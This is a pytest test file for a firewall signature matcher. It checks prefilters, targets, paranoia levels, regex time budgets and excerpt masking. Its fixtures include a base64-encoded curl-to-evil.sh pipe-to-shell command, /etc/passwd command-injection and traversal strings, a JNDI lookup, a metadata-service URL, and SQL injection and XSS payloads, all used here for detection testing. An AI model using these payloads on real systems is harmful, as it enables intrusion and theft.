"""The matcher: prefilter candidates, targets, paranoia, time budgets, limits on repeated hits,
bytes and large values; and the masked excerpts it reports."""

from __future__ import annotations

import random
import string
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from firewall.engine.batching import JoinedGroup
from firewall.engine.compiler import RuleSet, compile_signatures
from firewall.engine.excerpt import ELLIPSIS, MAX_EXCERPT, excerpt
from firewall.engine.literals import fold
from firewall.engine.loader import load_directory
from firewall.engine.matcher import MAX_PATHS_PER_SIGNATURE, Limits, field_candidates, inspect_fields
from firewall.engine.model import Signature
from firewall.engine.scoring import judge

CATASTROPHIC = "(x+x+)+y(?!z)"
HOSTILE = "x" * 5000 + "yz"
"""Holds both literals the prefilter requires of CATASTROPHIC, and what its relaxed pattern (without
the lookahead) matches, so that neither prefilter nor screen rules it out: the regex runs, and blows up."""
"""Exponential for a backtracking engine; `regex` still takes far over a second on 5,000 x's."""

SigFactory = Callable[..., Signature]


def _ids(findings: object) -> list[str]:
    return [hit.signature.signature.id for hit in findings.hits]  # type: ignore[attr-defined]


def _scan(sigs: list[Signature], fields: list[tuple[str, str | bytes]], paranoia: int = 1, **limits: float):
    return inspect_fields(compile_signatures(sigs, paranoia), fields, Limits(**limits))


# --- prefilter candidates -----------------------------------------------------------------------------


def test_declared_prefilter_gates_the_regex(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="abc", prefilter=["zzz"])
    assert _ids(_scan([sig], [("value", "abc")])) == []  # the regex would match: the prefilter says no
    assert _ids(_scan([sig], [("value", "abc zzz")])) == ["FW-UNIT-001"]


def test_prefilter_literal_is_found_case_insensitively(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="(?i)drop table", prefilter=["drop"])
    assert _ids(_scan([sig], [("value", "1; DROP TABLE users")])) == ["FW-UNIT-001"]


def test_literal_hidden_by_an_encoding_is_found_after_the_signature_transforms(make_sig: SigFactory) -> None:
    decoding = make_sig(pattern="select", transforms=["url_decode"])
    assert _ids(_scan([decoding], [("value", "%73elect 1")])) == ["FW-UNIT-001"]
    raw = make_sig(pattern="select", transforms=[])
    assert _ids(_scan([raw], [("value", "%73elect 1")])) == []


def test_each_signature_sees_its_own_chain_when_several_chains_exist(make_sig: SigFactory) -> None:
    sigs = [
        make_sig(id="FW-UNIT-001", pattern="<script", transforms=["html_entity_decode"]),
        make_sig(id="FW-UNIT-002", pattern="<script", transforms=["url_decode"]),
        make_sig(id="FW-UNIT-003", pattern="<script", transforms=["js_decode", "lowercase"]),
    ]
    assert _ids(_scan(sigs, [("value", "&lt;script")])) == ["FW-UNIT-001"]
    assert _ids(_scan(sigs, [("value", "%3cscript")])) == ["FW-UNIT-002"]
    assert _ids(_scan(sigs, [("value", "\\x3CSCRIPT")])) == ["FW-UNIT-003"]


def test_lowercase_before_a_decoder_still_matches_plain_upper_case_text(make_sig: SigFactory) -> None:
    # The fast path (no transform trigger in the text) must still honour case folding in a chain.
    sig = make_sig(pattern="select", transforms=["lowercase", "url_decode"])
    assert _ids(_scan([sig], [("value", "SELECT")])) == ["FW-UNIT-001"]


def test_satisfied_signatures_are_those_holding_every_literal_group(bundled_signatures: tuple[Signature, ...]) -> None:
    """`RuleSet.satisfied` (anchors from the automaton, groups an anchor implies taken as held, the
    others confirmed in the text) against its definition: every group has a literal in the text.
    On every example of every shipped signature, and on pairs of them."""
    rules = compile_signatures(bundled_signatures, paranoia=4)
    texts = [fold(text) for text in _examples(bundled_signatures)]
    rng = random.Random(11)
    texts += [rng.choice(texts) + " " + rng.choice(texts) for _ in range(300)]
    for text in texts:
        expected = {
            c.index for c in rules.signatures if c.literals and all(any(x in text for x in g) for g in c.literals)
        }
        found = {literal_id for _end, literal_id in rules.automaton.iter(text)}
        assert rules.satisfied(found, text) == expected, text


def test_joined_texts_are_scanned_with_a_separator_no_anchor_holds(bundled_signatures: tuple[Signature, ...]) -> None:
    from firewall.engine.compiler import _frequency

    rules = compile_signatures(bundled_signatures, paranoia=4)
    anchors = {x for c in rules.signatures if c.literals for x in min(c.literals, key=_frequency)}
    assert anchors and not any(rules.unseen in anchor for anchor in anchors)
    assert any("\n" in anchor for anchor in anchors)  # why a newline-joined text is not scanned as is


def test_candidates_are_the_signatures_whose_literal_occurs_plus_those_without_one(make_sig: SigFactory) -> None:
    sigs = [
        make_sig(id="FW-UNIT-001", pattern="alpha1"),
        make_sig(id="FW-UNIT-002", pattern="bravo2"),
        make_sig(id="FW-UNIT-003", pattern=r"\d\d"),  # no usable literal: always a candidate
    ]
    rules = compile_signatures(sigs, screen=False)
    by_id = {c.signature.id: c.index for c in rules.signatures}
    assert rules.signatures[by_id["FW-UNIT-003"]].literals is None

    def candidates(text: str) -> set[int]:
        return set(field_candidates(rules, "value", text))

    assert candidates("nothing here") == {by_id["FW-UNIT-003"]}
    assert candidates("xx ALPHA1 yy") == {by_id["FW-UNIT-001"], by_id["FW-UNIT-003"]}
    assert candidates("%62ravo2") == {by_id["FW-UNIT-003"]}  # no url_decode in any chain
    assert candidates("alpha1 bravo2") == set(by_id.values())


# --- targets ------------------------------------------------------------------------------------------


def test_signature_targeted_at_s3_key_does_not_fire_on_sqs_body(make_sig: SigFactory) -> None:
    sig = make_sig(pattern=r"\.\./", targets=["s3.key"])
    assert _ids(_scan([sig], [("sqs.body", "../../etc/passwd")])) == []
    assert _ids(_scan([sig], [("s3.key", "../../etc/passwd")])) == ["FW-UNIT-001"]


def test_target_globs(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="attack", targets=["sqs.body.*", "dynamodb.NewImage.note"])
    fires = {
        path: bool(_ids(_scan([sig], [(path, "attack")])))
        for path in ["sqs.body.items[2].note", "sqs.body.{}", "sqs.body", "dynamodb.NewImage.note", "s3.key"]
    }
    assert fires == {
        "sqs.body.items[2].note": True,
        "sqs.body.{}": True,
        "sqs.body": False,  # the glob needs something after `sqs.body.`
        "dynamodb.NewImage.note": True,
        "s3.key": False,
    }


def test_any_target_fires_everywhere(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="attack", targets=["any"])
    for path in ["s3.key", "sqs.body", "whatever.else"]:
        assert _ids(_scan([sig], [(path, "attack")])) == ["FW-UNIT-001"]


def test_untargeted_field_is_not_evaluated_at_all(make_sig: SigFactory) -> None:
    # A pathological regex targeted elsewhere costs nothing and raises no error.
    slow = make_sig(pattern=CATASTROPHIC, targets=["s3.key"])
    findings = _scan([slow], [("sqs.body", HOSTILE)])
    assert findings.error is None
    assert _scan([slow], [("s3.key", HOSTILE)]).error is not None


# --- paranoia -----------------------------------------------------------------------------------------


def test_level_2_signature_is_not_evaluated_at_paranoia_1(make_sig: SigFactory) -> None:
    slow = make_sig(id="FW-UNIT-002", pattern=CATASTROPHIC, paranoia=2)
    rules = compile_signatures([slow], paranoia=1)
    assert rules.signatures == ()
    started = time.perf_counter()
    findings = inspect_fields(rules, [("value", HOSTILE)])
    assert findings.error is None
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(("paranoia", "fires"), [(1, False), (2, True), (3, True), (4, True)])
def test_signature_is_active_from_its_paranoia_level(make_sig: SigFactory, paranoia: int, fires: bool) -> None:
    sig = make_sig(pattern="attack", paranoia=2)
    assert bool(_ids(_scan([sig], [("value", "attack")], paranoia=paranoia))) is fires


def test_invalid_paranoia_is_refused_by_the_compiler(make_sig: SigFactory) -> None:
    with pytest.raises(ValueError):
        compile_signatures([make_sig()], paranoia=5)


# --- time budgets ---------------------------------------------------------------------------------------


def test_catastrophic_pattern_becomes_an_error_verdict(make_sig: SigFactory) -> None:
    sig = make_sig(id="FW-UNIT-009", pattern=CATASTROPHIC)
    started = time.perf_counter()
    findings = _scan([sig], [("sqs.body", HOSTILE)])
    assert time.perf_counter() - started < 1.0
    assert findings.error is not None
    assert "FW-UNIT-009" in findings.error
    assert "sqs.body" in findings.error
    closed = judge(findings)
    assert closed.error == findings.error
    assert closed.action == "quarantine"
    assert closed.detected is False
    assert judge(findings, on_error="forward").action == "forward"


def test_record_budget_caps_each_regex_timeout(make_sig: SigFactory) -> None:
    sig = make_sig(pattern=CATASTROPHIC)
    started = time.perf_counter()
    findings = _scan([sig], [("value", HOSTILE)], regex_timeout=30.0, record_budget=0.1)
    assert time.perf_counter() - started < 1.0
    assert findings.error is not None


def test_spent_record_budget_stops_inspection_with_an_error(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="attack")
    findings = _scan([sig], [("a", "attack"), ("b", "attack")], record_budget=0.0)
    assert findings.hits == []
    assert findings.error is not None
    assert "budget" in findings.error


def test_fields_after_a_timeout_are_not_inspected(make_sig: SigFactory) -> None:
    sigs = [make_sig(id="FW-UNIT-001", pattern=CATASTROPHIC), make_sig(id="FW-UNIT-002", pattern="attack")]
    findings = _scan(sigs, [("first", HOSTILE), ("second", "attack")])
    assert findings.error is not None
    assert all(hit.path != "second" for hit in findings.hits)


# --- repeated hits, bytes, large values -------------------------------------------------------------------


def test_a_signature_reports_at_most_max_paths_per_record(make_sig: SigFactory) -> None:
    sigs = [make_sig(id="FW-UNIT-001", pattern="attack"), make_sig(id="FW-UNIT-002", pattern="other")]
    fields: list[tuple[str, str | bytes]] = [(f"f{i}", "attack") for i in range(MAX_PATHS_PER_SIGNATURE + 3)]
    fields.append(("last", "other"))
    findings = _scan(sigs, fields)
    paths = [hit.path for hit in findings.hits if hit.signature.signature.id == "FW-UNIT-001"]
    assert paths == [f"f{i}" for i in range(MAX_PATHS_PER_SIGNATURE)]
    assert [hit.path for hit in findings.hits if hit.signature.signature.id == "FW-UNIT-002"] == ["last"]


def test_bytes_values_are_inspected(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="<script", transforms=["lowercase"])
    assert _ids(_scan([sig], [("s3.object", b"<SCRIPT>alert(1)")])) == ["FW-UNIT-001"]


@pytest.mark.parametrize("value", [b"\xff\xfe<script>", b"<script>\x80\x81", b"\xc3<script>", bytes(range(256))])
def test_invalid_utf8_bytes_do_not_crash_and_keep_every_byte(make_sig: SigFactory, value: bytes) -> None:
    sig = make_sig(pattern="<script")
    findings = _scan([sig], [("s3.object", value)])
    assert findings.error is None
    assert _ids(findings) == (["FW-UNIT-001"] if b"<script" in value else [])


def test_utf8_bytes_match_like_the_same_text(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="café<", transforms=["unicode_nfkc"])
    assert _ids(_scan([sig], [("v", "café＜".encode())])) == ["FW-UNIT-001"]


def _benign_megabyte(seed: int = 3) -> str:
    rng = random.Random(seed)
    words = ["the", "quick", "brown", "fox,", "jumps", "over:", "a", "lazy", "dog", "(again)", "42", "times!"]
    words += ["50%", "off", "&", "more\tsee", "a+b", "C:\\temp"]
    lines, size = [], 0
    while size < 1_000_000:
        line = " ".join(rng.choice(words) for _ in range(12))
        lines.append(line)
        size += len(line) + 1
    return "\n".join(lines)[:1_000_000]


def test_one_megabyte_benign_value_gets_a_clean_verdict_in_time(fixtures_dir: Path) -> None:
    rules = compile_signatures(load_directory(fixtures_dir / "good"), paranoia=4)
    text = _benign_megabyte()
    started = time.perf_counter()
    findings = inspect_fields(rules, [("sqs.body", text)])
    elapsed = time.perf_counter() - started
    assert findings.error is None
    assert findings.hits == []
    assert elapsed < Limits().record_budget
    verdict = judge(findings)
    assert (verdict.action, verdict.detected, verdict.score) == ("forward", False, 0)


def test_attack_at_the_end_of_a_megabyte_is_found(fixtures_dir: Path) -> None:
    rules = compile_signatures(load_directory(fixtures_dir / "good"), paranoia=4)
    text = _benign_megabyte()[:-30] + "%3Cscript%3Ealert(1)"
    findings = inspect_fields(rules, [("sqs.body", text)])
    assert [hit.signature.signature.id for hit in findings.hits] == ["FW-TEST-001"]
    assert len(findings.hits[0].excerpt) <= MAX_EXCERPT


def test_no_fields_no_findings(make_sig: SigFactory) -> None:
    findings = _scan([make_sig()], [])
    assert (findings.hits, findings.error) == ([], None)


def test_hit_excerpt_comes_from_the_transformed_text(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="<script", transforms=["url_decode"])
    (hit,) = _scan([sig], [("value", "a=%3Cscript%3E")]).hits
    assert "<script" in hit.excerpt


# --- excerpts -------------------------------------------------------------------------------------------


def _distinct_text(rng: random.Random, length: int) -> str:
    """Printable, every character distinct (CJK block), so an excerpt locates itself unambiguously."""
    return "".join(chr(0x4E00 + i) for i in rng.sample(range(20_000), length))


def test_excerpt_properties_on_random_matches() -> None:
    rng = random.Random(11)
    for _ in range(3000):
        text = _distinct_text(rng, rng.choice([0, 1, 5, 40, 62, 63, 64, 65, 100, 500]))
        start = rng.randint(0, len(text))
        end = rng.randint(start, min(len(text), start + rng.choice([0, 1, 10, 61, 62, 63, 200])))
        if end - start == MAX_EXCERPT - 2 and end == len(text):
            continue  # see test_excerpt_of_a_long_match_ending_the_text_has_no_false_ellipsis
        out = excerpt(text, start, end)
        assert len(out) <= MAX_EXCERPT
        head = out.startswith(ELLIPSIS)
        tail = out.endswith(ELLIPSIS) and len(out) > int(head)
        body = out[int(head) : len(out) - int(tail)]
        left = text.find(body)
        assert left >= 0, (text, start, end, out)
        right = left + len(body)
        assert head == (left > 0), (text, start, end, out)  # an ellipsis exactly where something is cut
        assert tail == (right < len(text)), (text, start, end, out)
        if end - start < MAX_EXCERPT - 2:
            assert left <= start and end <= right  # a short match is shown whole
            assert len(body) == min(len(text), MAX_EXCERPT - 2) or not (head or tail)  # room is used
        else:
            assert left == start  # a long match is shown from its start


def test_excerpt_of_short_text_is_the_text() -> None:
    assert excerpt("1' or '1'='1", 3, 7) == "1' or '1'='1"


def test_excerpt_masks_non_printable_characters() -> None:
    out = excerpt("a\x00b\nc\x1b[31md\u200be", 0, 1)
    assert out == "a·b·c·[31md·e"
    assert not any(ch in out for ch in "\x00\n\x1b\u200b")


def test_excerpt_never_holds_the_whole_long_payload() -> None:
    secret = "AKIAIOSFODNN7EXAMPLE"
    payload = secret + "-" * 5000 + "<script>alert(1)</script>" + "-" * 5000 + secret
    start = payload.index("<script>")
    out = excerpt(payload, start, start + 8)
    assert len(out) <= MAX_EXCERPT
    assert "<script>" in out
    assert secret not in out
    assert out.startswith(ELLIPSIS)
    assert out.endswith(ELLIPSIS)


def test_excerpt_of_a_match_longer_than_the_width_is_cut() -> None:
    text = "prefix " + "A" * 500 + " suffix"
    out = excerpt(text, 7, 507)
    assert len(out) == MAX_EXCERPT
    assert out == ELLIPSIS + "A" * (MAX_EXCERPT - 2) + ELLIPSIS


def test_excerpt_of_a_long_match_ending_the_text_has_no_false_ellipsis() -> None:
    text = "a" * (MAX_EXCERPT - 2)
    assert excerpt(text, 0, len(text)) == text


def test_excerpt_of_random_ascii_text_is_bounded() -> None:
    rng = random.Random(5)
    alphabet = string.printable + "\x00\x7f\u2028é"
    for _ in range(2000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 300)))
        start = rng.randint(0, len(text))
        end = rng.randint(start, len(text))
        out = excerpt(text, start, end)
        assert len(out) <= MAX_EXCERPT
        assert all(ch.isprintable() for ch in out)


def _strict_candidates(rules: RuleSet, text: str) -> set[int]:
    """The signatures one of whose own chains turns `text` into a text holding all their literal
    groups: what no prefilter may leave out."""
    from firewall.engine.transforms import apply_chain

    found = set(rules.always)
    for chain, members in rules.chain_members.items():
        found |= rules.literal_hits(fold(apply_chain(chain, text))) & members
    return found


def _alone(rules: RuleSet, text: str, acting: frozenset[str]) -> set[int]:
    """The candidates of a text with `acting` decoders inspected on its own."""
    from firewall.engine.decoded import DecodedTexts
    from firewall.engine.matcher import _decoded_candidates
    from firewall.engine.screen import Allowance

    return _decoded_candidates(rules, DecodedTexts(text), acting, Allowance())


def _assert_sound_candidates(rules: RuleSet, text: str, found: set[int], alone: set[int]) -> None:
    """Candidates worked out with other texts hold every strict candidate of `text`, and nothing its
    inspection alone would not run (a group may leave out more: a signature whose literals the
    text holds only across two of its decoded forms)."""
    strict = _strict_candidates(rules, text)
    assert strict <= found, (text, strict - found)
    assert found <= alone, (text, found - alone)


# --- batching is invisible -----------------------------------------------------------------------------


_FRAGMENTS = [
    "hello",
    "O'Brien",
    "a+b@example.com",
    "%27%20or%201=1",
    "&lt;script&gt;",
    "\\x3cscript",
    "\\u0027",
    "\\",
    "/*",
    "*/",
    "${IFS}",
    "{cat,/etc/passwd}",
    "c'a't",
    "../../",
    "..\\..\\",
    "ＳＥＬＥＣＴ",
    "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==",
    "union select",
    "<img src=x onerror=alert(1)>",
    "\t\n",
    "\x00",
    "http://169.254.169.254/",
    "${jndi:ldap://x}",
    "{{7*7}}",
    " ",
    "'",
    '"',
    "%",
    "&",
    "#",
]
"""Tricky pieces of fields: escapes, comments left open, ${...}, quotes, base64, look-alikes."""


def test_fields_judged_together_keep_every_candidate_they_get_alone(bundled_signatures: tuple[Signature, ...]) -> None:
    """Fields share automaton scans per record: for random records of tricky fragments (escapes,
    comments left open, ${...}, quotes, base64, look-alikes) each field keeps every strict candidate
    and gains none it would not get inspected on its own, and the record gets the hits its fields
    get one by one."""
    from firewall.engine.matcher import record_candidates

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    rng = random.Random(2026)
    for _ in range(150):
        items = [
            (f"f{i}", "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 5))))
            for i in range(rng.randint(2, 12))
        ]
        items += [(f"again{i}", text) for i, (_, text) in enumerate(items[:3])]  # recurring texts
        together, _ = record_candidates(rules, items)
        for index, (path, text) in enumerate(items):
            alone, _ = record_candidates(rules, [(path, text)])
            _assert_sound_candidates(rules, text, together.get(index, set()), alone.get(0, set()))
        hits = {(hit.path, hit.signature.index) for hit in inspect_fields(rules, items).hits}
        one_by_one = {(hit.path, hit.signature.index) for item in items for hit in inspect_fields(rules, [item]).hits}
        assert hits <= one_by_one, items  # a record reports each signature in its first fields only
        assert {index for _, index in hits} == {index for _, index in one_by_one}, items


def test_a_small_group_is_decoded_with_a_wider_one(
    bundled_signatures: tuple[Signature, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Texts whose acting decoders are all among those of a wider group of the record are decoded
    with that group (`_merged`): each keeps every strict candidate and gains none it would not get
    on its own, and the record gets the hits it gets with no group merged."""
    from firewall.engine import matcher
    from firewall.engine.matcher import record_candidates

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    url, cmdline, nfkc = frozenset({"url_decode"}), frozenset({"cmdline_normalize"}), frozenset({"unicode_nfkc"})
    groups = {url: ["a+b@example.com"], url | cmdline: ["it's 12%"], cmdline: ["O'Brien-Smith"], nfkc: ["Kraków"]}
    widest = ["it's 12%", "a+b@example.com", "O'Brien-Smith"]
    assert matcher._merged(rules, groups) == {url | cmdline: widest, nfkc: ["Kraków"]}
    many = frozenset({"url_decode", "html_entity_decode", "js_decode", "css_decode", "path_normalize"})
    assert len(rules.projections(many)) > matcher.MERGED_CHAINS  # a group with many chains takes none in
    assert matcher._merged(rules, {url: ["a+b"], many: ["%3C\\x3c&lt;"]}) == {url: ["a+b"], many: ["%3C\\x3c&lt;"]}
    monkeypatch.setattr(matcher, "MERGED_LENGTH", len("it's 12%"))  # the others are too long to merge
    assert matcher._merged(rules, groups) == groups

    merges: list[bool] = []
    whole = matcher._merged

    def counted(rules: RuleSet, groups: dict[frozenset[str], list[str]]) -> dict[frozenset[str], list[str]]:
        merged = whole(rules, groups)
        merges.append(len(merged) < len(groups))
        return merged

    monkeypatch.setattr(matcher, "_merged", counted)
    rng = random.Random(41)
    records = [
        [  # the entity's group must not join the other (decoders that change nothing there wake none)
            ("a", "&lt;script&gt;alert(1)&lt;/script&gt;"),
            ("b", "100% costs $5"),
            ("c", "90% costs $4"),
        ]
    ]
    for _ in range(150):
        records.append(
            [
                (f"f{i}", "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 5))))
                for i in range(rng.randint(2, 12))
            ]
        )
    for items in records:
        monkeypatch.setattr(matcher, "MERGED_LENGTH", 0)
        apart_hits = {(hit.path, hit.signature.index) for hit in inspect_fields(rules, items).hits}
        monkeypatch.setattr(matcher, "MERGED_LENGTH", 8192)
        together, _ = record_candidates(rules, items)
        for index, (path, text) in enumerate(items):
            alone, _ = record_candidates(rules, [(path, text)])
            _assert_sound_candidates(rules, text, together.get(index, set()), alone.get(0, set()))
        assert {(hit.path, hit.signature.index) for hit in inspect_fields(rules, items).hits} == apart_hits, items
    assert sum(merges) >= 50  # groups merged in many of the records' inspections


def test_a_decoder_woken_by_another_is_still_applied(make_sig: SigFactory) -> None:
    """Percent-decoding `%26lt%3B` yields `&lt;`, an HTML entity: the field's chains cannot be
    reduced to the decoders its raw text wakes, and the signature must still see `<script`."""
    sig = make_sig(pattern="<script", transforms=["url_decode", "html_entity_decode", "lowercase"])
    assert _ids(_scan([sig], [("value", "%26lt%3BSCRIPT%26gt%3Balert(1)")])) == ["FW-UNIT-001"]
    assert _ids(_scan([sig], [("value", "%26lt%3Bscrap%26gt%3B")])) == []


def test_reduced_chains_give_the_candidates_of_the_full_chains(bundled_signatures: tuple[Signature, ...]) -> None:
    """For every field, the chains reduced to its acting decoders (and lower case) must find every
    candidate the full chains find, each signature looking at its own chain's output."""
    from firewall.engine.search import applicable
    from firewall.engine.transforms import apply_chain

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    fragments = [
        "a+b",
        "O'Brien",
        "%27",
        "%26lt%3B",
        "&amp;",
        "\\u003c",
        "ＡＢＣ",
        "/*x*/",
        "${IFS}",
        "x//y",
        "union",
        "select",
    ]
    rng = random.Random(5)
    for _ in range(400):
        text = "".join(rng.choice(fragments) for _ in range(rng.randint(1, 6)))
        full: set[int] = set(rules.always)
        for chain, members in rules.chain_members.items():
            full |= rules.literal_hits(fold(apply_chain(chain, text))) & members
        assert set(applicable(rules, "value", full)) <= set(field_candidates(rules, "value", text)), text


def test_a_recurring_attack_is_reported_in_each_field_up_to_the_limit(make_sig: SigFactory) -> None:
    sig = make_sig(pattern="attack")
    fields = [(f"f{i}", "an attack") for i in range(5)] + [("g", "calm"), ("h", "calm")]
    findings = _scan([sig], fields)
    assert [hit.path for hit in findings.hits] == ["f0", "f1", "f2"][:MAX_PATHS_PER_SIGNATURE]


def _examples(signatures: tuple[Signature, ...]) -> list[str]:
    return sorted({text for s in signatures for text in (*s.match_examples, *s.no_match_examples) if text})


@pytest.mark.parametrize("sparse_hits", [0, 10**9], ids=["hits-mapped-straight-away", "hits-bounded-first"])
def test_a_group_scanned_joined_keeps_the_candidates_of_each_text(
    bundled_signatures: tuple[Signature, ...], sparse_hits: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Texts whose acting decoders all act within one text are decoded and scanned joined by
    newlines: each keeps every strict candidate and gains none it would not get on its own. Checked
    on every example of every shipped signature, grouped by acting decoders, with benign variants
    beside them, whether the group's hits are mapped to their texts at once or first bounded by the
    signatures each decoded form of the whole group holds."""
    from firewall.engine import batching
    from firewall.engine.batching import group_candidates

    monkeypatch.setattr(batching, "SPARSE_HITS", sparse_hits)
    from firewall.engine.decoded import acting_decoders

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    texts = _examples(bundled_signatures)
    texts += [f"it's {i:05d}" for i in range(50)] + [f"Chloé O'Brien & co {i}" for i in range(50)]
    texts += [f"{'word ' * 250}it's {i} ' or 1=1 -- /etc/passwd" for i in range(3)]  # long: form by form
    groups: dict[frozenset[str], list[str]] = {}
    for text in texts:
        acting = acting_decoders(text)
        if acting:
            groups.setdefault(acting, []).append(text)
    joined = 0
    for acting, members in groups.items():
        for start in range(0, len(members), 40):
            chunk = members[start : start + 40]
            batched = group_candidates(rules, chunk, acting)
            if batched is None:
                continue
            joined += len(chunk)
            for text, candidates in zip(chunk, batched.candidates, strict=True):
                _assert_sound_candidates(rules, text, candidates, _alone(rules, text, acting))
    assert joined >= 100  # the joined path was really taken


EVERY_SEPARATOR = "".join(f"%{code:02x}" for code in range(1, 32)) + "%7f%EE%80%80%EE%80%81"
"""Percent-encoded, a newline, every other control character and the private-use stand-ins."""


@pytest.mark.parametrize(
    ("texts", "why"),
    [
        ([EVERY_SEPARATOR, "b%01"], "decoding yields every separator there is"),
        (["one"], "a single text gains nothing from joining"),
    ],
)
def test_groups_that_cannot_be_joined_are_examined_text_by_text(
    bundled_signatures: tuple[Signature, ...], texts: list[str], why: str
) -> None:
    from firewall.engine.batching import group_candidates
    from firewall.engine.decoded import acting_decoders

    rules = compile_signatures(bundled_signatures, paranoia=4)
    acting = acting_decoders(texts[0])
    assert all(acting_decoders(text) == acting for text in texts)
    assert group_candidates(rules, texts, acting) is None, why


def _joined_like_each_text(rules: RuleSet, texts: list[str], acting: frozenset[str]) -> JoinedGroup:
    """The group of `texts` decoded joined, each text's candidates checked against the text alone."""
    from firewall.engine.batching import group_candidates

    batched = group_candidates(rules, texts, acting)
    assert batched is not None
    for text, found in zip(texts, batched.candidates, strict=True):
        _assert_sound_candidates(rules, text, found, _alone(rules, text, acting))
    return batched


@pytest.mark.parametrize(
    ("texts", "unusable"),
    [
        (["a%0a%01b", "c%0Ad", "%02x"], "\n\x01\x02"),  # percent-decoding yields them
        (["x&#10;\x01y", "x&#x0a;y"], "\n\x01"),  # a newline from a reference; a text holds \x01
        (["\\\\1", "\\\\2", "\\\\3", "\\\\12", "\\\\41"], "\n\x01\x02\x03"),  # \\1 gives \1, then U+0001
        # Expansions and brace lists left open at a text's end, joined by a control character.
        (["%0a{a,", "'b}c%0a", "$IFS%x%0a", "'y}%0a", "${a%0a", "':-}b%0a"], "\n"),
    ],
)
def test_texts_that_decode_to_control_characters_are_joined_by_another(
    bundled_signatures: tuple[Signature, ...], texts: list[str], unusable: str
) -> None:
    """The group is joined by a control character that no text holds and no decoding yields, and
    each text still gets what its own chains give."""
    from firewall.engine.decoded import acting_decoders
    from firewall.engine.transforms import apply_chain

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    acting = acting_decoders(texts[0])
    assert all(acting_decoders(text) == acting for text in texts)
    group = _joined_like_each_text(rules, texts, acting)
    separator = group.decoded.joining.separator
    assert separator not in unusable
    for number, text in enumerate(texts):
        for chain in rules.chain_members:
            subject = group.subject(number, rules.reduced(chain, group.reduced_to))
            assert subject == apply_chain(chain, text), (text, chain)
            assert separator not in subject


@pytest.mark.parametrize(
    ("texts", "holding"),
    [
        ([f"%3Cb%3E{i}" for i in range(200)], 200),  # `<b>` in every text
        # As many `<b>` as texts, but half the texts hold two and half none.
        ([f"%3Cb%3E%3Cb%3E{i}" if i % 2 else f"plain%20{i}" for i in range(200)], 100),
    ],
)
def test_an_anchor_in_every_text_of_a_dense_group_is_given_to_each(
    make_sig: SigFactory, texts: list[str], holding: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A flood's anchor found in every text is not mapped hit by hit: each text still gets exactly
    the candidates its anchors give, and a text without the anchor does not get it."""
    from firewall.engine import batching

    monkeypatch.setattr(batching, "SPARSE_HITS", 10**9)  # the dense path, whatever the hits
    sig = make_sig(pattern="<b>", transforms=["url_decode", "lowercase"], match_examples=["<b>"])
    rules = compile_signatures([sig], paranoia=4)
    group = _joined_like_each_text(rules, texts, frozenset({"url_decode"}))
    assert sum(1 for found in group.candidates if found) == holding


@pytest.mark.parametrize("sparse_hits", [0, 10**9])  # hits mapped straight away; hits bounded first
@pytest.mark.parametrize(
    "texts",
    [
        # Percent-decoding changes `%%3c...` and `%%0a` texts but leaves `%%zz` as it is: later forms
        # differ from the first in a few texts only.
        [f"%%zz{i}" for i in range(300)] + ["%%3cscript%3ealert(1)", "x%%27 or 1=1--", "%%0a"],
        # Escapes: `\\N` decodes in every text, `\\x3c` into an anchor in one.
        [f"..\\\\{i}" for i in range(300)] + ["\\x3cscript\\x3e", "\\u0027 or 1=1--"],
    ],
)
def test_texts_a_later_form_leaves_as_they_were_are_scanned_once(
    bundled_signatures: tuple[Signature, ...], texts: list[str], sparse_hits: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A group's later forms are scanned only where they differ from the first, text by text: an
    anchor that only decoding reveals, in one text of hundreds, still reaches that text, and no
    text gets a candidate it would not get alone."""
    from firewall.engine import batching
    from firewall.engine.decoded import acting_decoders

    monkeypatch.setattr(batching, "SPARSE_HITS", sparse_hits)
    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    acting = acting_decoders(texts[0])
    assert all(acting_decoders(text) == acting for text in texts)
    group = _joined_like_each_text(rules, texts, acting)
    assert group.candidates[-2] - rules.always and group.candidates[-1] - rules.always


@pytest.mark.parametrize("form", ["\\\\{}", "%%{}"])
def test_a_large_group_learns_on_its_first_texts_which_separators_fail(
    bundled_signatures: tuple[Signature, ...], form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`\\\\N` decodes to every control character and `%%301` to U+0001: the first texts show it,
    so the whole group is decoded once, with a separator that holds, and stays sound."""
    from firewall.engine import batching
    from firewall.engine.decoded import acting_decoders

    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    texts = [form.format(i) for i in range(batching.PROBED_GROUP)]
    acting = acting_decoders(texts[0])
    assert all(acting_decoders(text) == acting for text in texts)
    tried: list[str] = []
    whole = batching._joined_candidates

    def spy(rules: RuleSet, texts: list[str], acting: frozenset[str], joining: Any, allowance: Any) -> Any:
        tried.append(joining.separator)
        return whole(rules, texts, acting, joining, allowance)

    monkeypatch.setattr(batching, "_joined_candidates", spy)
    group = _joined_like_each_text(rules, texts, acting)
    assert tried == [group.decoded.joining.separator]


@pytest.mark.parametrize(
    ("texts", "looked_at_most"),
    [
        ([f"..%2f..%2f{i}" for i in range(300)], 40),  # `../` in every text of the decoded form
        # `union` and `select` in half the texts: those are looked at one by one.
        ([f"..%2f{i}" if i % 2 else f"..%2f{i} union select" for i in range(300)], 190),
    ],
)
